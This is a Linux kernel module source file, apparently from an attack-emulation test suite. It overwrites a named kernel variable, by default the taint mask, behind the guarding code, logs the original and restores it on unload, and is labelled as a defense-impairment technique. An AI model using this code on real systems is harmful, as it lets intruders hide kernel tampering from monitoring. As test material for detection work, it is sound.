// SPDX-License-Identifier: GPL-2.0-only
/* Writes a setting of the kernel past the code that guards it (T1562); undone at unload. */
#include "attack.h"

static char *name = "tainted_mask";
module_param(name, charp, 0444);
MODULE_PARM_DESC(name, "the variable; or module: the taints of this module");
static unsigned long value;
module_param(value, ulong, 0444);
static int size = 8;
module_param(size, int, 0444);
MODULE_PARM_DESC(size, "bytes of the variable");

static unsigned long saved;
static void *at;

static int __init attack_init(void)
{
	if (size < 1 || size > (int)sizeof(saved))
		return -EINVAL;
	at = !strcmp(name, "module") ? (void *)&THIS_MODULE->taints : (void *)attack_symbol(name);
	if (!at)
		return -ENOENT;
	memcpy(&saved, at, size);
	if (attack_write(at, &value, size))
		return -EFAULT;
	attack_log("name=%s slot=0x%lx value=0x%lx original=0x%lx module=0x%lx", name,
		   (unsigned long)at, value, saved, (unsigned long)THIS_MODULE);
	return 0;
}

static void __exit attack_exit(void)
{
	attack_write(at, &saved, size);
	attack_log("restored name=%s", name);
}

module_init(attack_init);
module_exit(attack_exit);
